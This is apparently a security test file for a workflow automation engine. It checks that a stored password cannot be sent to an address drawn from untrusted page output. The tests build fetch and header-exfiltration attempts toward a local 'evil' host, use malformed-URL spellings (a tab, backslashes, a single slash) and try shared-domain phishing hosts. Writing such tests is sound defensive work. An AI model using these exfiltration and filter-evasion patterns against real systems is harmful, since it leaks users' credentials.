import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { defineBlock, parameterFields, Type } from '@runwright/contract';
import { createEngine, type Engine } from '@runwright/core';
import { fakeBrowser } from '@runwright/testing';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type InProcessService, inProcessService } from '../in-process-service.test-helpers.ts';

const password = 'canary-word-of-the-shop';
const credential = { name: 'Shop', credential_type: 'password', credential: { username: 'ann', password } };

let service: InProcessService;
const servers: Server[] = [];
/** Headers of the requests that each site has got. */
const received: { readonly named: string[]; readonly evil: string[] } = { named: [], evil: [] };
let hosts: { readonly named: string; readonly evil: string };
/** What the site that the caller names answers: anybody can write there. */
const written = () => ({
  address: `http://${hosts.evil}/in`,
  host: hosts.evil,
  tenant: `${hosts.evil}/in?`,
  'one slash': `http:/${hosts.evil}/in`,
  'a tab': `ht\ttp://${hosts.evil}/in`,
  backslashes: `http:\\\\${hosts.evil}\\in`,
  port: Number(hosts.evil.split(':')[1]),
});

async function listen(name: 'named' | 'evil'): Promise<string> {
  const server = createServer((request, response) => {
    received[name].push(JSON.stringify([request.url, request.headers]));
    response.setHeader('content-type', 'application/json').end(JSON.stringify(written()));
  }).listen(0, '127.0.0.1');
  servers.push(server);
  await once(server, 'listening');
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  hosts = { named: await listen('named'), evil: await listen('evil') };
  service = await inProcessService({ RUNWRIGHT_ALLOWED_HOSTS: `${hosts.named},${hosts.evil}` });
  await service.start();
});
afterAll(async () => {
  await service?.close();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
});
beforeEach(() => {
  received.named.length = 0;
  received.evil.length = 0;
});

const parameter = (key: string, workflow_parameter_type: string, more: object = {}) => ({
  ...{ parameter_type: 'workflow', key, workflow_parameter_type, ...more },
});
const login = parameter('login', 'credential_id');

async function save(parameters: readonly object[], blocks: readonly object[]): Promise<string> {
  const json_definition = { title: 'Provenance', workflow_definition: { parameters, blocks } };
  const { status, body } = await service.call('/v1/workflows', { json_definition });
  expect({ status, body }).toMatchObject({ status: 200 });
  return body.workflow_permanent_id;
}

/** Sends the password to an address. */
const send = (url: string, label = 'send') => ({
  ...{ block_type: 'http_request', label, method: 'GET', url },
  headers: { authorization: '{{ login.password }}' },
});
/** The same by a program; `url` is the expression of an address. */
const program = (url: string) => ({
  ...{ block_type: 'code', label: 'send', parameter_keys: ['login', 'to'] },
  code: `return (await fetch(${url}, { headers: { authorization: login.password } })).status;`,
});
const trigger = (workflow: string, payload: object, label = 'child') => ({
  ...{ block_type: 'workflow_trigger', label, workflow_permanent_id: workflow },
  payload: { login: '{{ login_id }}', ...payload },
});

/** A parent reads what strangers have written and hands a part of it to a child; resolves with its end. */
async function run(child: string, payload: object, label = 'read') {
  const parent = await save(
    [parameter('site', 'string'), parameter('host', 'string'), parameter('login_id', 'string')],
    [{ block_type: 'http_request', label, method: 'GET', url: '{{ site }}/read' }, trigger(child, payload)],
  );
  const { body: kept } = await service.call('/v1/credentials', credential);
  const { body: started } = await service.call('/v1/run/workflows', {
    workflow_id: parent,
    parameters: { site: `http://${hosts.named}`, host: hosts.named, login_id: kept.credential_id },
  });
  const ended = await service.finished(started.run_id);
  // The parent has read it, so that the child had something to be deceived with.
  expect(received.named.join()).toContain('/read');
  return ended;
}

const isRefused = (ended: { readonly status: string; readonly failure_reason: string | null }): void => {
  expect(received.evil.join()).not.toContain(password);
  expect(ended.failure_reason).toContain('may not be sent to');
};

describe('where an address came from', { tags: ['security', 'extended'] }, () => {
  it.each([
    ['an address', '{{ to }}', '{{ site }}/in'],
    ['a host', 'http://{{ to }}/in', '{{ host }}'],
  ])('a child sends a secret to a site that the caller of its parent names: %s', async (_way, url, to) => {
    const ended = await run(await save([login, parameter('to', 'string')], [send(url)]), { to });
    expect(ended).toMatchObject({ status: 'completed', failure_reason: null });
    expect(received.named.join()).toContain(password);
  });

  it.each([
    ['the host', 'http://{{ to }}/in', '{{ read.body.host }}'],
    ['the port', 'http://127.0.0.1:{{ to }}/in', '{{ read.body.port }}'],
    ['the name in front of a domain', 'http://{{ to }}.shop.test/in', '{{ read.body.tenant }}'],
  ])(
    'an output cannot be a part of the address that a child sends a secret to: %s',
    async (_part, url, to) => {
      isRefused(await run(await save([login, parameter('to', 'string')], [send(url)]), { to }));
    },
  );

  it.each(['one slash', 'a tab', 'backslashes'])(
    'an output cannot be an address because it is spelled in another way: %s',
    async (way) => {
      const child = await save([login, parameter('to', 'string')], [program('to')]);
      isRefused(await run(child, { to: `{{ read.body['${way}'] }}` }));
    },
  );

  it.each(['range', 'dict', 'namespace'])(
    'an output cannot pass for text of the author because its block is called `%s`',
    async (label) => {
      // The child names a site, so that none counts because it is the first one.
      const home = parameter('home', 'string', { default_value: 'https://shop.example/' });
      const child = await save([login, home, parameter('to', 'string')], [send('{{ to }}')]);
      isRefused(await run(child, { to: `{{ ${label}.body.address }}` }, label));
    },
  );

  it('an output cannot become an address in a key of an object', async () => {
    const child = await save(
      [login, parameter('to', 'json')],
      [send('{% for key in to %}{{ key }}{% endfor %}')],
    );
    isRefused(await run(child, { to: { '{{ read.body.address }}': 'an address' } }));
  });

  it('an output cannot become an address two runs below', async () => {
    const last = await save([login, parameter('to', 'string')], [send('{{ to }}')]);
    const middle = await save(
      [parameter('login_id', 'string'), parameter('place', 'json')],
      [trigger(last, { to: '{{ place.address }}' })],
    );
    isRefused(await run(middle, { login_id: '{{ login_id }}', place: '{{ read.body }}' }));
  });

  it('an output cannot become an address in the program of a child', async () => {
    const child = await save([login, parameter('to', 'string')], [program(`'http://' + to + '/in'`)]);
    isRefused(await run(child, { to: '{{ read.body.host }}' }));
  });

  describe('in the browser of the parent', () => {
    let engine: Engine | null = null;
    afterEach(() => engine?.close());

    /** Opens a page in the session of the parent, whose goal names the author's site; a child signs in there. */
    async function signInAt(address: string, goal: string) {
      const browser = fakeBrowser({
        pages: [{ url: address, elements: [{ id: 'a1', kind: 'textbox', name: 'Password' }] }],
      });
      const act = defineBlock({
        type: 'act',
        config: Type.Object({ text: Type.String({ default: '' }), ...parameterFields }),
        output: Type.Unknown(),
        async run({ text, parameters }, { browser: open, signal }) {
          const { page } = await open();
          if (text !== '') {
            await page.act({ action_type: 'goto_url', url: address }, { epoch: 0, signal });
            return null;
          }
          const { epoch } = await page.read({ mode: 'action', signal });
          const { password } = parameters.login as { readonly password: string };
          return page.act({ action_type: 'input_text', id: 'a1', text: password }, { epoch, signal });
        },
      });
      const egress = { check: async (url: string | URL) => ({ url: new URL(url), addresses: [] }) };
      const started = await createEngine({ blocks: [act], drivers: { browser, egress } });
      engine = started;
      await started.start();
      const { organizationId } = await started.organizations.first();
      const workflow = async (parameters: readonly object[], blocks: readonly object[]) => {
        const draft = { title: 'Provenance', workflow_definition: { parameters, blocks } };
        const created = await started.workflows.create(organizationId, started.workflows.parse(draft));
        return created.workflowPermanentId;
      };
      const { credential_id } = await started.credentials.create(organizationId, credential);
      const child = await workflow(
        [login],
        [{ block_type: 'act', label: 'sign_in', parameter_keys: ['login'] }],
      );
      const parent = await workflow(
        [],
        [
          { block_type: 'act', label: 'open', text: goal },
          {
            ...{ block_type: 'workflow_trigger', label: 'child', workflow_permanent_id: child },
            ...{ payload: { login: credential_id }, use_parent_browser_session: true },
          },
        ],
      );
      const { session } = await started.browserSessions.create(organizationId);
      const { signal } = new AbortController();
      await started.browserSessions.browser(organizationId, session.browserSessionId, { signal });
      const { runId } = await started.runs.start(
        { workflow_id: parent, browser_session_id: session.browserSessionId },
        { organizationId },
      );
      const { failureReason, output } = await started.runs.finished(organizationId, runId);
      return {
        ended: JSON.stringify([failureReason, output]),
        typed: JSON.stringify(browser.sessions[0]?.values),
      };
    }

    it('a child signs in at the site that the goal of its parent names', async () => {
      const { typed } = await signInAt('https://shop.example/login', 'Open https://shop.example/');
      expect(typed).toContain(password);
    });

    it.each([
      ['https://evil.github.io/login', 'Open acme.github.io'],
      ['https://evil.s3.amazonaws.com/login', 'Open https://s3.amazonaws.com/acme/login'],
      ['https://evil.blogspot.com/login', 'Open https://blogspot.com/acme'],
    ])('a child cannot sign in at %s because the domain is shared: %s', async (address, goal) => {
      const { ended, typed } = await signInAt(address, goal);
      expect(typed).not.toContain(password);
      expect(ended).toContain('may not be sent to');
    });
  });
});
